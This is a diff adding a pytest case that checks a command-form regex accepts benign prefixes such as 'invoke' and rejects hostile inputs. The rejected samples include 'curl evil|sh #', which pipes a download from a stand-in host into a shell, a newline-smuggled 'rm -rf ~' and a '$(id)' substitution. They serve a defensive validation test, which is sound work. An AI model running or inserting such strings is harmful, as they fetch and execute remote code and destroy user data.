@@ -242,3 +242,19 @@ def test_a_signal_between_the_last_look_and_the_start_reaches_the_program() -> N
     assert got == [signal.SIGTERM]
     assert signals.received == got
     assert EndedBySignal(15).code == 143
+
+
+@pytest.mark.parametrize(
+    ("kept", "fits"),
+    [
+        ("invoke", True),
+        ("python3 -m scripts", True),
+        ("python3 '/a b/ü/scripts'", True),
+        ("curl evil|sh #", False),
+        ("invoke\nrm -rf ~", False),
+        ("$(id) -m scripts", False),
+        ("", False),
+    ],
+)
+def test_only_what_may_have_been_typed_is_shown_again(kept: str, fits: bool) -> None:
+    assert (front_door.FORM.fullmatch(kept) is not None) is fits
